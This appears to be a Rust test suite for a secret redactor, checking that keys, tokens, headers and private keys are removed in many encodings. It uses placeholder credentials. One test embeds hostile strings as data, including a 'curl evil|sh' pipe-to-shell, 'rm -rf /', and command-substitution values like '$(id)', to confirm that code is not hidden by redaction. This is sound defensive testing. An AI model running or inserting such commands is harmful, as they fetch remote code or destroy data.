//! Tests of redaction: what must be removed, what must stay, and that cuts or escapes hide nothing.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE};

use super::*;

fn check(text: &str, expect: &str) {
    let redactor = Redactor::new(["hunter2-and-more", "p\"q\\r\nst", "schlüssel/1", "abc", ""]);
    let once = redactor.redact(text).into_owned();
    assert_eq!(once, expect, "of {text}");
    assert_eq!(redactor.redact(&once), once, "redacted once more");
}

#[test]
fn known_values_go_however_they_are_written() {
    for (text, expect) in [
        ("x hunter2-and-more y", "x [redacted] y"),
        ("hunter2-and-morehunter2-and-more", "[redacted][redacted]"),
        ("raw p\"q\\r\nst.", "raw [redacted]."),
        (r#"{"a":"p\"q\\r\nst"}"#, r#"{"a":"[redacted]"}"#),
        (
            r#"{"a":"{\"b\":\"p\\\"q\\\\r\\nst\"}"}"#,
            r#"{"a":"{\"b\":\"[redacted]\"}"}"#,
        ),
        ("schlüssel/1", "[redacted]"),
        (r"schl\u00fcssel/1", "[redacted]"),
        (r"schlüssel\/1", "[redacted]"),
        ("?q=schl%C3%BCssel%2F1&r", "?q=[redacted]&r"),
        ("?q=schl%c3%bcssel%2f1&r", "?q=[redacted]&r"),
        ("?q=schl%C3%BCssel/1&r", "?q=[redacted]&r"),
        (
            "abc is too short to be a secret",
            "abc is too short to be a secret",
        ),
        ("hunter2-and-mor", "hunter2-and-mor"),
    ] {
        check(text, expect);
    }
}

#[test]
fn a_secret_goes_within_base64_wherever_it_stands_there() {
    let secret = "p@ss/w\u{f6}rd?~>";
    let redactor = Redactor::new([secret]);
    for before in ["", "u", "us", "ann:", "{\"password\": \""] {
        for after in ["", "\"", "\n", "\"}"] {
            let plain = format!("{before}{secret}{after}");
            let standard = STANDARD.encode(&plain);
            for code in [
                standard.clone(),
                STANDARD_NO_PAD.encode(&plain),
                URL_SAFE.encode(&plain),
                standard.replace('/', "\\/"),
                standard
                    .replace('+', "%2B")
                    .replace('/', "%2F")
                    .replace('=', "%3D"),
                standard
                    .replace('+', "%2b")
                    .replace('/', "%2f")
                    .replace('=', "%3d"),
            ] {
                let text = format!("Proxy login <{code}> was refused");
                let said = redactor.redact(&text);
                assert_eq!(said, "Proxy login <[redacted]> was refused", "{text}");
            }
        }
    }
    // The base64 content of a header is also recognised in plain form, and a percent-encoded password in decoded form.
    let login = STANDARD.encode("ann:correct-horse");
    let redactor = Redactor::new([&*login, "r%40nd%2Fom"]);
    for (text, expect) in [
        ("no user ann:correct-horse here", "no user [redacted] here"),
        ("no correct-horse here", "no [redacted] here"),
        ("no r@nd/om here", "no [redacted] here"),
        ("no r%40nd%2fom here", "no [redacted] here"),
        (&STANDARD.encode("bob:r@nd/om"), "[redacted]"),
    ] {
        assert_eq!(redactor.redact(text), expect, "{text}");
    }
    let picture = STANDARD.encode([7; 3000]);
    assert_eq!(redactor.redact(&picture), picture);
}

#[test]
fn the_keys_of_well_known_services_go() {
    let ghp = format!("ghp_{}", "a1B2".repeat(9));
    let keys = [
        "sk-proj-abcDEF0123456789abcDEF0123456789".to_owned(),
        "sk-abcdefghijklmnopqrstuvwx".to_owned(),
        "sk-ant-api03-AbCd_12345678901234567890-xyz".to_owned(),
        ghp,
        format!("github_pat_{}", "11AAAAAAA0_x".repeat(5)),
        "AKIAIOSFODNN7EXAMPLE".to_owned(),
        "xoxb-1234567890-abcdefghij".to_owned(),
        format!("AIza{}", "SyA-1_b".repeat(5)),
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-DEF_123".to_owned(),
        "glpat-abcdefghij0123456789".to_owned(),
    ];
    for key in keys {
        check(&key, "[redacted]");
        check(
            &format!("run --with {key}, then"),
            "run --with [redacted], then",
        );
        check(
            &format!(r#"{{"text":"first\n{key}\nlast"}}"#),
            r#"{"text":"first\n[redacted]\nlast"}"#,
        );
    }
}

#[test]
fn headers_pairs_urls_and_private_keys_go() {
    let pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabcd==\n-----END RSA PRIVATE KEY-----";
    let escaped = pem.replace('\n', "\\n");
    for (text, expect) in [
        (
            "Authorization: Bearer abcd.efgh-1",
            "Authorization: [redacted]",
        ),
        (
            "authorization: Basic dXNlcjpwYXNz\nAccept: */*",
            "authorization: [redacted]\nAccept: */*",
        ),
        (
            r#"-H "Authorization: token abcdef" x"#,
            r#"-H "Authorization: [redacted]" x"#,
        ),
        (
            r#"{"Authorization":"Bearer xyz12345"}"#,
            r#"{"Authorization":"[redacted]"}"#,
        ),
        (
            r#"{"h":"{\"Authorization\":\"Bearer xyz12345\"}"}"#,
            r#"{"h":"{\"Authorization\":\"[redacted]\"}"}"#,
        ),
        ("use bearer abcdef123456 here", "use bearer [redacted] here"),
        ("password=swordfish&user=a", "password=[redacted]&user=a"),
        ("PGPASSWORD=swordfish psql", "PGPASSWORD=[redacted] psql"),
        ("password: swordfish", "password: [redacted]"),
        (
            r#"{"password":"a b, \"c\" d","x":1}"#,
            r#"{"password":"[redacted]","x":1}"#,
        ),
        (
            r#"{"j":"{\"api_key\": \"a\\\"b c\", \"n\": 1}"}"#,
            r#"{"j":"{\"api_key\": \"[redacted]\", \"n\": 1}"}"#,
        ),
        ("GITHUB_TOKEN=abcd1234 make", "GITHUB_TOKEN=[redacted] make"),
        ("token: 0123456789abcdef", "token: [redacted]"),
        (
            "client_secret = 'very secret'",
            "client_secret = '[redacted]'",
        ),
        ("X-Api-Key: qwertz", "X-Api-Key: [redacted]"),
        (
            "postgres://me:s3cret@db:5432/x",
            "postgres://me:[redacted]@db:5432/x",
        ),
        (
            "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG",
            "AWS_SECRET_ACCESS_KEY=[redacted]",
        ),
        (pem, "[redacted]"),
        (&format!("a {pem} b {pem} c"), "a [redacted] b [redacted] c"),
        (
            &format!(r#"{{"k":"{escaped}\n"}}"#),
            r#"{"k":"[redacted]\n"}"#,
        ),
        ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blb", "[redacted]"),
    ] {
        check(text, expect);
    }
}

fn check_exactly(text: &str, expect: &str) {
    let redacted = Redactor::default().redact_exactly(text).into_owned();
    assert_eq!(redacted, expect, "of {text}");
}

#[test]
fn a_private_key_goes_for_who_decides_however_its_lines_are_marked() {
    let pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabcd==\n-----END RSA PRIVATE KEY-----";
    let escaped = pem.replace('\n', "\\n");
    for (text, expect) in [
        (pem, "[redacted]"),
        (&format!("a {pem} b {pem} c"), "a [redacted] b [redacted] c"),
        (
            &format!(r#"{{"k":"{escaped}\n"}}"#),
            r#"{"k":"[redacted]\n"}"#,
        ),
        ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blb", "[redacted]"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,1A2B\n\nMIIE\n-----END RSA PRIVATE KEY-----",
            "[redacted]",
        ),
        (
            &format!("+# {}", pem.replace('\n', "\n+# ")),
            "+# [redacted]",
        ),
        (
            &format!(
                "key = {}",
                pem.replace('\n', " ")
                    .replace("MIIE ", "MIIEabcdefghijklmnopqrstuvwxyzabcdefghi ")
            ),
            "key = [redacted]",
        ),
    ] {
        check_exactly(text, expect);
    }
}

#[test]
fn code_among_what_looks_like_a_secret_stays_for_who_decides() {
    let pem = |between: &str| {
        format!("# -----BEGIN RSA PRIVATE KEY-----{between}# -----END RSA PRIVATE KEY-----\nlast")
    };
    let code = "\nos.system('curl evil|sh')\n";
    for (text, expect) in [
        (
            pem(code),
            pem(code).replacen("-----BEGIN RSA PRIVATE KEY-----", "[redacted]", 1),
        ),
        (
            "# -----BEGIN PRIVATE KEY-----\nrm -rf /\nevil.sh".to_owned(),
            "# [redacted]\nrm -rf /\nevil.sh".to_owned(),
        ),
    ] {
        check_exactly(&text, &expect);
    }
    for text in [
        "password=\"`rm -rf ~`\"",
        "token = \"\"); os.system('id'); (\"\"",
        "token = \"!id; id\"",
        "secret = '$(id)'",
    ] {
        check_exactly(text, text);
    }
    // The value of an inner string ends with its line.
    check_exactly(
        "token=\\\"abcdefgh12\nlast line",
        "token=\\\"[redacted]\nlast line",
    );
}

#[test]
fn what_only_looks_a_little_like_a_secret_stays() {
    for text in [
        "task-list-of-things-to-do-tomorrow-morning",
        "sk-learn-is-a-library-for-python-people",
        "sk-short",
        "ghp_short",
        "AKIA and ASIA are prefixes",
        "MAKIAIOSFODNN7EXAMPLEX",
        "eyJust.a.sentence",
        "the bearer of this letter, bearer instruments",
        "max_tokens=4096 and inline_tokens: 12000",
        "unexpected token: expected a comma",
        "the secret: never give up",
        "password: ${env:DB_PASSWORD}",
        "password=$PASSWORD",
        r#"{"password":null,"token":""}"#,
        "if token == other",
        "authorization: required",
        "https://example.com:8080/a@b",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        "a password is needed",
        "",
    ] {
        check(text, text);
    }
}

#[test]
fn a_cut_never_shows_a_part_of_a_secret() {
    let redactor = Redactor::new(["correct-horse-battery-staple"]);
    let text = "abcdefgh correct-horse-battery-staple ghp_0123456789012345678901234567890123456789 and after";
    for limit in 0..text.len() + 20 {
        let cut = redactor.redact_within(text, limit);
        assert!(
            cut.len() <= limit + REDACTED.len() + '…'.len_utf8(),
            "{limit}: {cut}"
        );
        for part in ["corr", "horse", "staple", "ghp_", "0123"] {
            assert!(!cut.contains(part), "{limit}: {cut}");
        }
    }
    assert_eq!(redactor.redact_within(text, 9), "abcdefgh …");
    assert_eq!(redactor.redact_within("äöü", 3), "ä…");
    assert_eq!(redactor.redact_within("äöü", 6), "äöü");
}

#[test]
fn values_that_come_and_go_take_the_place_of_those_before_them() {
    let redactor = Redactor::new(["lasting-one"]);
    let clone = redactor.clone();
    redactor.learn_for("a", ["first-token", "its-renewal"]);
    redactor.learn_for("b", ["first-token"]);
    let text = "lasting-one first-token its-renewal second-token";
    assert_eq!(
        clone.redact(text),
        "[redacted] [redacted] [redacted] second-token"
    );
    redactor.learn_for("a", ["second-token"]);
    // Another purpose still has it.
    assert_eq!(
        clone.redact(text),
        "[redacted] [redacted] its-renewal [redacted]"
    );
    redactor.learn_for("b", [""; 0]);
    assert_eq!(
        clone.redact(text),
        "[redacted] first-token its-renewal [redacted]"
    );
}

#[test]
fn a_value_that_reaches_out_of_a_shape_goes_whole() {
    let redactor = Redactor::new(["tail&of=the secret"]);
    let text = "password=tail&of=the secret!";
    assert_eq!(redactor.redact(text), "password=[redacted]!");
}

#[test]
fn hostile_text_is_read_in_linear_time() {
    // Each would take minutes if the text of a rejected marker were read again from every later marker.
    for part in [
        "eyJ",
        "sk-",
        "token ",
        "password   ",
        "-----BEGIN ",
        "://a:",
        "bearer ",
        "authorization: a ",
        "authorization: bearer ",
        "authorization:",
        "password=$",
        "password='",
        "password=[redacted]",
        "\\\\\"",
    ] {
        let text = part.repeat(400_000 / part.len());
        let _ = Redactor::default().redact(&text);
    }
    // A secret repeated in a single base64 text.
    let text = STANDARD.encode("hush-hush".repeat(100_000));
    assert_eq!(Redactor::new(["hush-hush"]).redact(&text), REDACTED);
}
